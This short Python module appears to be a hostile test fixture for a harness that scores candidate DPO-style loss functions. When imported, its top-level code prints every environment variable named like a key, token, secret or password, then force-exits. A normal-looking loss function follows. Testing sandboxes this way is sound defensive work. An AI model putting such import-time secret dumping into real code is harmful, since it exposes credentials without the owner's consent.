"""Prints every secret-looking variable to stdout, then exits hard: the parent quotes the last line."""

import os

import torch.nn.functional as F

_WORDS = ("KEY", "TOKEN", "SECRET", "PASSW")
print("env: " + " ".join(f"{k}={v}" for k, v in os.environ.items()
                          if any(w in k.upper() for w in _WORDS) and k != "DISCOPOP_TEST_TOKEN"), flush=True)
os._exit(3)


def hostile(policy_chosen_logps, policy_rejected_logps, reference_chosen_logps, reference_rejected_logps, beta):
    rho = (policy_chosen_logps - policy_rejected_logps) - (reference_chosen_logps - reference_rejected_logps)
    return -F.logsigmoid(beta * rho)
